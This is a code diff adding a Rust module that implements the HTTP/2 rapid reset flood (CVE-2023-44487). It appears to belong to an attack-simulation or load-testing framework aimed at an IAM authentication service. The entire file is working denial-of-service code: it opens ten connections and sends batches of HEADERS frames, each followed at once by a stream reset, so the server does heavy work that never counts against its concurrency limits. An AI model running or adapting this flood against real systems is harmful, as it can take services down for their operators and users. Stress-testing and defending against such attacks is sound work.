@@ -1,0 +1,41 @@
+//! HTTP/2 rapid reset (CVE-2023-44487): streams that are opened and reset at once, so that they never count as concurrent.
+
+use std::{sync::Arc, time::Duration};
+
+use tokio::time::sleep;
+
+use super::Attacker;
+use crate::wire::{Http2, frames};
+
+const CONNECTIONS: u32 = 10;
+/// Streams that are written at once, and how often.
+const BATCH: u32 = 100;
+const EVERY: Duration = Duration::from_millis(100);
+const PAUSE: Duration = Duration::from_millis(100);
+/// The ids of streams on one connection end here.
+const LAST: u32 = 1 << 30;
+
+pub async fn flood(attacker: Arc<Attacker>) {
+    attacker
+        .repeat(CONNECTIONS, PAUSE, |attacker, _| async move {
+            let Ok(connection) = Http2::open(&attacker, attacker.entrances.iam).await else { return };
+            let block = frames::call(&connection.authority, "/auth.v1.AuthService/Whoami");
+            let mut begun = 0;
+            connection
+                .drive(|| {
+                    let streams = (begun..begun + BATCH).map(|number| number * 2 + 1);
+                    let bytes: Vec<u8> = streams
+                        .flat_map(|stream| [frames::headers(stream, &block, false), frames::reset(stream)].concat())
+                        .collect();
+                    begun += BATCH;
+                    let goes_on = begun < LAST;
+                    attacker.has_sent(BATCH.into());
+                    async move {
+                        sleep(EVERY).await;
+                        goes_on.then_some(bytes)
+                    }
+                })
+                .await;
+        })
+        .await;
+}
